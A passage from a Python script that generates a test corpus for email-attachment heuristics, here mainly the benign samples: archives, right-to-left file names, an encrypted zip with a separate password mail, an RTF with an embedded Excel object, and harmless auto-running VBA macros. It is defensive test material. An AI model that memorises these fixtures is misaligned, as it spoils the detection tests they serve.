                     rng.choice(SENDERS), team, atts=[("%s.iso" % vol.lower(), F.iso9660(files, vol))]))
    # web developer's scripts
    js = WEBDEV_JS.encode()
    c.add("clean", "webdev-script", "zip of web sources, ajax.js with the ActiveXObject fallback",
          c.mail("Intranet page sources", "Hi,\n\nhere are the sources for the new intranet page.\n\nLeo\n",
                 "Leo Wagner <leo.wagner@example.com>", "web@example.com",
                 atts=[("intranet-src.zip", F.zip_archive([
                     ("src/index.html", b"<html><body><script src=\"ajax.js\"></script></body></html>"),
                     ("src/ajax.js", js), ("src/app.js", b"// app " + MARK.encode() + b"\ngetJSON('/api', render);\n"),
                     ("src/style.css", b"body{margin:0}"), ("README.md", b"# Intranet\n")]))]))
    c.add("clean", "webdev-script", "tar.gz of web sources with the ActiveXObject fallback",
          c.mail("Re: old IE support", "The fallback is in ajax.js, see the tarball.\n",
                 "Leo Wagner <leo.wagner@example.com>", "web@example.com",
                 atts=[("ajax-lib.tar.gz", F.tar_gz([("ajax-lib/ajax.js", js),
                                                    ("ajax-lib/README", b"ajax helper " + MARK.encode())]))]))
    page = ("<!DOCTYPE html><html><head><title>Report</title></head><body><!-- %s -->\n<script>\n%s\n"
            "</script></body></html>\n" % (MARK, WEBDEV_JS)).encode()
    c.add("clean", "webdev-script", "HTML page with an inline XMLHTTP fallback and a CSV download",
          c.mail("Report page prototype", "Prototype of the report page attached.\n",
                 "Leo Wagner <leo.wagner@example.com>", "web@example.com",
                 atts=[("report.html", page, "text/html")]))
    c.add("clean", "webdev-script", "zip of a single-page app (several .js files)",
          c.mail("SPA build", "Build output attached.\n", "CI <ci@example.com>", "web@example.com",
                 atts=[("spa-build.zip", F.zip_archive([
                     ("dist/main.js", js), ("dist/vendor.js", b"/* vendor " + MARK.encode() + b" */"),
                     ("dist/polyfills.js", b"/* polyfills */ if (!window.Promise) {}"),
                     ("dist/index.html", b"<html></html>")]))]))
    # right-to-left names with legitimate embedding marks
    for i, (lang, name, subj) in enumerate([
            ("he", "\u200fדוח רבעוני.pdf", "דוח רבעוני"),
            ("ar", "\u202bتقرير المبيعات\u202c.pdf", "تقرير المبيعات"),
            ("he", "\u202bחשבונית 2020\u202c.pdf", "חשבונית"),
            ("ar", "\u200fعرض سعر.docx", "عرض سعر"),
            ("he", "\u2067מצגת\u2069.pdf", "מצגת")]):
        data = F.docx([subj]) if name.endswith(".docx") else F.pdf(["Report %d" % i])
        c.add("clean", "rtl-name", "%s file name with %s" % (lang, "U+%04X" % ord(name[0])),
              c.mail(subj, [p for p in PLAIN if p[0] == lang][0][2], rng.choice(SENDERS), team,
                     atts=[(name, data)]))
    # logs, csv, other archives
    c.add("clean", "archive-documents", "tar.gz of logs",
          c.mail("Logs from the web servers", "Logs attached, see the 500s around 09:12.\n",
                 "Ops <ops@example.com>", team, atts=[("logs.tar.gz", F.tar_gz(
                     [("web1/access.log", b"10.0.0.1 - - GET / 200\n" * 50 + MARK.encode()),
                      ("web2/access.log", b"10.0.0.2 - - GET /api 500\n" * 20)]))]))
    c.add("clean", "archive-documents", "gzip of a CSV with its name in FNAME",
          c.mail("Export", "The nightly export.\n", "Reports <reports@example.com>", team,
                 atts=[("export.csv.gz", F.gzip_file("export.csv", b"id;name\n1;A\n2;B\n" + MARK.encode()))]))
    c.add("clean", "archive-documents", "7z of documents",
          c.mail("Documents", "Attached the documents as 7z.\n", rng.choice(SENDERS), team,
                 atts=[("documents.7z", F.sevenzip([("report.pdf", F.pdf(["Report"])),
                                                    ("notes.txt", b"notes " + MARK.encode())]))]))
    c.add("clean", "archive-documents", "LZH of documents (Japanese office)",
          c.mail("資料送付", "資料をLZHで送ります。\n", "佐藤 健 <k.sato@jp.example.com>", team,
                 atts=[("shiryo.lzh", F.lzh([("shiryo.pdf", F.pdf(["Shiryo"])), ("memo.txt", b"memo " + MARK.encode())]))]))
    c.add("clean", "archive-documents", "rar of spreadsheets",
          c.mail("Sheets", "The sheets, as rar.\n", rng.choice(SENDERS), team,
                 atts=[("sheets.rar", F.rar4([("a.csv", b"x;y\n1;2\n" + MARK.encode()), ("b.csv", b"x;y\n3;4\n")]))]))
    c.add("clean", "archive-documents", "CSV attachment",
          c.mail("Price list", "Current price list attached.\n", "Sales Team <sales@vendor.example.com>", RCPT,
                 atts=[("prices.csv", ("sku;price\nA-1;10.00\nB-2;12.50\n# " + MARK + "\n").encode(), "text/csv")]))
    # password-protected zip, password sent by phone / in a separate mail
    n = c.digits(6)
    pw = "Kx" + c.digits(6)
    c.add("clean", "encrypted-separate", "encrypted zip, password in a separate mail (PPAP)",
          c.mail("【資料送付】お見積書 %s" % n, "お世話になっております。\n資料を送付いたします。パスワードは別途お送りします。\n",
                 "佐藤 健 <k.sato@jp.example.com>", RCPT,
                 atts=[("mitsumori_%s.zip" % n, F.zip_archive([("mitsumori.pdf", F.pdf(["Quote"]))],
                                                              password=pw, rng=rng))]))
    c.add("clean", "encrypted-separate", "the separate password mail, no attachment",
          c.mail("【パスワード】お見積書 %s" % n, "先ほどお送りしたファイルのパスワードです。\nパスワード：%s\n" % pw,
                 "佐藤 健 <k.sato@jp.example.com>", RCPT))
    # forwarded messages and replies
    for i in range(3):
        inner = c.mail("Original: delivery schedule %d" % i, "Delivery on Monday as agreed.\n",
                       rng.choice(SENDERS), RCPT, atts=[("schedule.pdf", F.pdf(["Schedule %d" % i]))])
        c.add("clean", "forward", "forwarded message/rfc822 with a PDF",
              c.mail("Fwd: delivery schedule %d" % i, "FYI, see below.\n", "Anna Keller <anna.keller@example.com>",
                     team, atts=[inner]))
    for i, (lang, subj, text) in enumerate(PLAIN[:6]):
        quoted = "\n".join("> " + line for line in text.splitlines())
        c.add("clean", "reply", "reply with quoted text (%s)" % lang,
              c.mail("Re: " + subj, "Thanks, noted.\n\n" + quoted + "\n", rng.choice(SENDERS), team,
                     reply="<%d.prev@mail.example.com>" % i))
    # a document based on a template on the author's disk (file:// target, External)
    c.add("clean", "business-document", "docx whose attached template is a local Normal.dotm (file:///)",
          c.mail("Draft contract", "Hi,\n\nthe draft contract is attached.\n\nAnna\n",
                 "Anna Keller <anna.keller@example.com>", team,
                 atts=[("Draft_contract.docx", F.docx(["Draft contract", "Section 1"],
                        template="file:///C:\\Users\\akeller\\AppData\\Roaming\\Microsoft\\"
                                 "Templates\\Normal.dotm"))]))
    # a web application's export page: base64 CSV turned into a download in the browser
    csv_b64 = base64.b64encode(("date;amount\n2020-06-01;120.00\n2020-06-02;80.50\n# %s\n"
                                % MARK).encode()).decode()
    export = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Export</title></head><body>\n"
              "<!-- %s -->\n<button id=\"b\">Download CSV</button>\n<script>\n"
              "document.getElementById('b').onclick = function () {\n"
              "  var bin = atob('%s'), bytes = new Uint8Array(bin.length);\n"
              "  for (var i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i);\n"
              "  var a = document.createElement('a');\n"
              "  a.href = URL.createObjectURL(new Blob([bytes], {type: 'text/csv'}));\n"
              "  a.download = 'transactions.csv'; a.click();\n};\n</script></body></html>\n"
              % (MARK, csv_b64)).encode()
    c.add("clean", "webdev-script", "saved web-app export page (atob, Blob, download of a CSV)",
          c.mail("Transactions export", "The export page from the banking portal, saved.\n",
                 "Finance <finance@example.com>", team, atts=[("transactions.html", export, "text/html")]))
    # RTF with an embedded Excel chart (a legitimate OLE object) and a picture
    sheet = F.xlsx([["Month", "Sales"], ["May", 120], ["June", 140]])
    ole = (bytes.fromhex("0105000002000000") + (15).to_bytes(4, "little") + b"Excel.Sheet.12\0"
           + b"\0" * 8 + len(sheet).to_bytes(4, "little") + sheet)
    rtf = ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\f0 Sales chart, June.\\par\n"
           "{\\object\\objemb{\\*\\objclass Excel.Sheet.12}\\objw4000\\objh2000{\\*\\objdata\n%s\n}"
           "{\\result{\\pict\\pngblip\\picw32\\pich24\n%s\n}}}\\par %s\\par}\n"
           % ("\n".join(ole.hex()[k:k + 128] for k in range(0, len(ole.hex()), 128)),
              F.png(32, 24, 3).hex(), MARK)).encode()
    c.add("clean", "rtf-document", "RTF with an embedded Excel sheet object and a PNG picture",
          c.mail("Sales chart", "Chart attached as RTF.\n", "Controlling <controlling@example.com>", team,
                 atts=[("sales_chart.rtf", rtf)]))
    # a business card
    vcf = ("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Lucía Gómez\r\nORG:Example S.A.\r\n"
           "EMAIL:lucia.gomez@es.example.com\r\nTEL:+34 600 000 000\r\nNOTE:%s\r\nEND:VCARD\r\n" % MARK)
    c.add("clean", "plain-business", "mail with a vCard",
          c.mail("Mis datos de contacto", "Hola,\n\nte envío mis datos de contacto.\n\nLucía\n",
                 "Lucía Gómez <lucia.gomez@es.example.com>", team,
                 atts=[("lucia_gomez.vcf", vcf.encode(), "text/vcard")]))
    # legitimate macros
    if mkoffice is not None:
        fmt = ("Sub FormatReport()\n  ' %s\n  With ActiveSheet.Range(\"A1:F1\")\n    .Font.Bold = True\n"
               "    .Interior.Color = RGB(220, 230, 241)\n  End With\n  ActiveSheet.Columns(\"A:F\").AutoFit\n"
               "  ActiveSheet.Range(\"C2:C200\").NumberFormat = \"#,##0.00\"\nEnd Sub\n" % MARK)
        opn = ("Private Sub Workbook_Open()\n  ' %s\n  Worksheets(\"Summary\").Activate\n"
               "  Application.StatusBar = \"Updated \" & Format(Now, \"yyyy-mm-dd\")\nEnd Sub\n" % MARK)
        doc = ("Sub AutoOpen()\n  ' %s\n  ActiveDocument.Styles(\"Normal\").Font.Name = \"Calibri\"\n"
               "  ActiveWindow.View.Type = wdPrintView\nEnd Sub\n" % MARK)
        for kind, mods, subj, trick in [
                ("xlsm", {"Module1": fmt}, "Monthly report template", "workbook macro that formats cells"),
                ("xlsm", {"ThisWorkbook": opn, "Module1": fmt}, "Sales summary with macros",
                 "Workbook_Open that activates a sheet"),
                ("docm", {"ThisDocument": doc}, "Letter template", "AutoOpen that sets a style"),
                ("xlam", {"Module1": fmt}, "Formatting add-in", "add-in with a formatting macro")]:
            c.add("clean", "legit-macro", trick,
                  c.mail(subj, "Hi,\n\nthe %s is attached; enable macros for the formatting button.\n\nControlling\n"
                         % kind, "Controlling <controlling@example.com>", team,
                         atts=[("%s.%s" % (subj.replace(" ", "_"), kind), mkoffice.ooxml_with_vba(kind, mods))]))
        tidy = ("Sub TidyDocument()\r\n  ' %s\r\n  ActiveDocument.Range.Font.Name = \"Arial\"\r\n"
                "  ActiveDocument.Range.ParagraphFormat.SpaceAfter = 6\r\nEnd Sub\r\n" % MARK)
        c.add("clean", "legit-macro", "legacy Word .doc with a formatting macro",
              c.mail("Old letter template", "The old letter template, still with its macro.\n",
                     "Controlling <controlling@example.com>", team,
                     atts=[("letter_2019.doc", mkoffice.ole_doc_with_vba({"Module1": tidy}))]))


def build(seed):
    c = Corpus(seed)
    avaddon(c)
    negasteal_archives(c)
    negasteal_documents(c)
    remote_template(c)
    office_campaign(c)
    clean(c)
    return c


def main():
    ap = argparse.ArgumentParser(description="Write the heuristics corpus into OUTDIR.")
    ap.add_argument("-s", "--seed", type=int, default=20200608)
    ap.add_argument("outdir")
    a = ap.parse_args()
    c = build(a.seed)
    c.write(a.outdir)
    ncamp = sum(1 for r in c.manifest if r[1] == "campaign")
    print("gen-corpus: %d campaign, %d clean messages in %s (seed %d)"
          % (ncamp, len(c.manifest) - ncamp, a.outdir, a.seed))


if __name__ == "__main__":
    main()
